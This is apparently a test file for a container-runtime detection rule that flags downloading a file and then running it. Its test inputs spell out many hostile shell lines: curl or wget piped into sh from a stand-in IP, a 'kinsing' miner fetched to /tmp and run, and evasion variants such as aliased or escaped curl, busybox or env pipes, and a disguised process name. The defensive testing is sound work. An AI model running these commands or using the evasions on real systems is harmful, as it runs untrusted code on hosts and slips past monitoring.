import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { downloadAndExecute } from '../../../../../controlplane/src/detections/rules/download-and-execute';
import { CONTAINER_ID, containerStarted, execEvent } from '../../../../helpers/synthetic-events';
import { contextAfter, ruleContext } from '../../../../helpers/rule-context';
import { ContainerRegistry } from '../../../../../controlplane/src/correlation/container-registry';

const started = containerStarted({ containerId: CONTAINER_ID, namespace: 'x', pod: 'p', podUid: 'u' });
const exec = (filename: string, argv: string[], pid = 7000) => execEvent({ pid, nsPid: pid - 6900, filename, argv, containerId: CONTAINER_ID });

describe('rule download-and-execute', () => {
  test('should trigger: curl | sh, wget && chmod +x && run, base64 stages', () => {
    for (const ev of [
      exec('/bin/sh', ['sh', '-c', 'curl -fsSL http://198.51.100.7/i.sh | sh']),
      exec('/bin/bash', ['bash', '-c', 'wget -qO- http://198.51.100.7/x | bash -s']),
      exec('/bin/sh', ['sh', '-c', 'wget http://198.51.100.7/kinsing -O /tmp/kinsing; chmod +x /tmp/kinsing; /tmp/kinsing']),
      exec('/bin/sh', ['sh', '-c', 'curl -s http://h/p | base64 -d | sh']),
      exec('/bin/sh', ['sh', '-c', 'curl -o /dev/shm/a http://h/a && chmod 755 /dev/shm/a && ./a']),
    ])
      assert.ok(downloadAndExecute.match(ev, contextAfter([started], ev)), ev.exec!.argv.join(' '));
  });

  test('should trigger: running the file a download wrote, or a program in /tmp after a download', () => {
    const wget = exec('/usr/bin/wget', ['wget', 'http://198.51.100.7/bot'], 7001);
    const run = exec('/app/bot', ['./bot'], 7002);
    assert.ok(downloadAndExecute.match(run, contextAfter([started, wget], run)));
    const curl = exec('/usr/bin/curl', ['curl', '-o', 'x.bin', 'http://198.51.100.7/x'], 7003);
    const tmp = exec('/tmp/.cache/agent', ['/tmp/.cache/agent'], 7004);
    assert.ok(downloadAndExecute.match(tmp, contextAfter([started, curl], tmp)));
  });

  test('should not trigger: downloads to files nobody runs, running image programs after a download, a plain curl', () => {
    const curl = exec('/usr/bin/curl', ['curl', '-o', '/data/report.json', 'http://api/report'], 7001);
    const own = exec('/usr/local/bin/app', ['app', '--serve'], 7002);
    assert.equal(downloadAndExecute.match(own, contextAfter([started, curl], own)), null);
    const plain = exec('/bin/sh', ['sh', '-c', 'curl -s http://localhost:8080/healthz > /dev/null']);
    assert.equal(downloadAndExecute.match(plain, contextAfter([started], plain)), null);
    const tmpNoDownload = exec('/tmp/build/test-runner', ['test-runner'], 7005);
    assert.equal(downloadAndExecute.match(tmpNoDownload, contextAfter([started], tmpNoDownload)), null);
  });
});

describe('rule download-and-execute: review finding 11', () => {
  let pid = 7100;
  const ex = (filename: string, argv: string[], timeNs?: bigint) => execEvent({ pid: ++pid, nsPid: pid - 7000, filename, argv, containerId: CONTAINER_ID, timeNs });
  const line = (cmd: string) => ex('/bin/sh', ['sh', '-c', cmd]);
  const after = (events: ReturnType<typeof ex>[], image?: string) => {
    const cur = events.at(-1)!;
    const withImage = (e: ReturnType<typeof ex>) => (image ? { ...e, container: { ...e.container!, image } } : e);
    return downloadAndExecute.match(withImage(cur), contextAfter([started, ...events.slice(0, -1)].map(withImage), withImage(cur)));
  };

  test('should trigger: pipes through busybox, tee and env, substitutions, variables, escapes, a downloaded file run by another name', () => {
    for (const cmd of [
      'wget -qO- http://198.51.100.7/x | busybox sh',
      'curl -s http://198.51.100.7/x | tee /tmp/log | sh',
      'curl -s http://198.51.100.7/x | env sh',
      'curl -s http://198.51.100.7/x | "sh"',
      'c\\url -s http://198.51.100.7/x | sh',
      'C=curl; $C -s http://198.51.100.7/x | sh',
      'sh -c "$(curl -fsSL http://198.51.100.7/i.sh)"',
      'bash <(curl -s http://198.51.100.7/i.sh)',
      'wget http://198.51.100.7/x -O /opt/x; chmod +x /opt/x; sh /opt/x',
      'curl -o /opt/x http://198.51.100.7/x && install -m 755 /opt/x /usr/bin/x && x',
      'python3 -c "import urllib.request as u;print(u.urlopen(\'http://198.51.100.7/x\').read().decode())" | sh',
    ])
      assert.ok(after([line(cmd)]), cmd);
  });

  test('should trigger: the file a download wrote run later, however named, after any number of other execs', () => {
    const filler = Array.from({ length: 40 }, () => ex('/bin/true', ['true']));
    // A probe's curl every few seconds must not push the download out of what the container remembers.
    const probes = Array.from({ length: 100 }, () => ex('/usr/bin/curl', ['curl', '-s', 'http://svc.shop.svc:8080/healthz']));
    const cases: ReturnType<typeof ex>[][] = [
      [ex('/usr/bin/curl', ['curl', '-sLo', 'kube', 'http://198.51.100.7/dl']), ex('/usr/local/bin/kube', ['kube'])],
      [ex('/usr/bin/wget', ['wget', '-qO', '/opt/a', 'http://198.51.100.7/b']), ex('/opt/a', ['/opt/a'])],
      [ex('/usr/bin/curl', ['curl', '-s', '-o', '/tmp/y', 'http://198.51.100.7/q']), ex('./x', ['./x'])],
      [ex('/usr/bin/curl', ['curl', '-s', '-o', '/run/lock/x', 'http://198.51.100.7/q']), ex('/run/lock/x', ['/run/lock/x'])],
      [ex('/usr/bin/curl', ['curl', '-s', 'http://198.51.100.7/q']), ex('/dev/fd/3', ['[kworker]'])],
      [ex('/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x']), ...filler, ex('/tmp/x', ['/tmp/x'])],
      [ex('/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x']), ...probes, ex('/tmp/x', ['/tmp/x'])],
      [ex('/usr/bin/python3', ['python3', '-c', 'import urllib.request as u;u.urlretrieve("http://198.51.100.7/x","/tmp/x")']), ex('/tmp/x', ['/tmp/x'])],
      [line('curl -s http://198.51.100.7/payload > /opt/svc'), ex('/usr/bin/curl', ['curl', '-s', 'http://198.51.100.7/payload']), ex('/opt/svc', ['/opt/svc'])],
    ];
    for (const events of cases) assert.ok(after(events), events.map((e) => e.exec!.argv.join(' ')).join(' → '));
  });

  test('should not trigger: health probes and curl to standard output, a file other than the one downloaded, builds, downloads past the window', () => {
    const cases: ReturnType<typeof ex>[][] = [
      [ex('/usr/bin/curl', ['curl', '-fsS', 'http://localhost:8080/healthz']), ex('/usr/local/go/bin/go', ['go', 'test', './...']), ex('/tmp/go-build123/b001/pkg.test', ['/tmp/go-build123/b001/pkg.test', '-test.v'])],
      [ex('/usr/bin/curl', ['curl', '-f', 'http://localhost/health']), ex('/usr/local/bin/health', ['health'])],
      [ex('/usr/bin/curl', ['curl', '-s', 'https://api.example.com/v1/status']), ex('/tmp/build/test-runner', ['test-runner'])],
      [ex('/usr/bin/curl', ['curl', '-o', '/etc/app/app', 'http://198.51.100.7/app']), ex('/usr/local/bin/app', ['app'])],
      [ex('/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x'], BigInt(Date.now() - 20 * 60_000) * 1_000_000n), ex('/tmp/x', ['/tmp/x'])],
    ];
    for (const events of cases) assert.equal(after(events), null, events.map((e) => e.exec!.argv.join(' ')).join(' → '));
    const install = line('curl -fsSL -o get_helm.sh https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 && chmod 700 get_helm.sh && ./get_helm.sh');
    assert.ok(after([install]), 'an installer run in a workload is what the rule is for');
    assert.equal(after([install], 'jenkins/inbound-agent:latest'), null, 'build images are not judged');
  });
});

describe('rule download-and-execute: one container over time', () => {
  test('a download made after the container was last judged counts, and one forgotten past the 64 kept does not', () => {
    const registry = new ContainerRegistry();
    const ctx = { ...ruleContext(), container: () => registry.get(CONTAINER_ID) };
    let pid = 8000;
    const judge = (filename: string, argv: string[]) => {
      const ev = execEvent({ pid: ++pid, nsPid: 50, filename, argv, containerId: CONTAINER_ID });
      registry.observe(ev, 0);
      return downloadAndExecute.match(ev, ctx);
    };
    registry.observe(started, 0);
    for (let i = 0; i < 3; i++) for (let k = 0; k < 20; k++) assert.equal(judge('/usr/bin/curl', ['curl', '-s', `http://svc-${k}.shop.svc:8080/healthz`]), null);
    assert.equal(judge('/tmp/x', ['/tmp/x']), null, 'nothing was downloaded yet');
    assert.equal(judge('/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x']), null);
    assert.equal(judge('/usr/bin/curl', ['curl', '-s', 'http://svc-3.shop.svc:8080/healthz']), null);
    assert.ok(judge('/tmp/x', ['/tmp/x']), 'the download since is found');
    for (let k = 0; k < 64; k++) judge('/usr/bin/curl', ['curl', '-s', `http://other-${k}.shop.svc/healthz`]);
    assert.equal(judge('/tmp/x', ['/tmp/x']), null, 'the download was forgotten with the oldest fetches');
  });
});
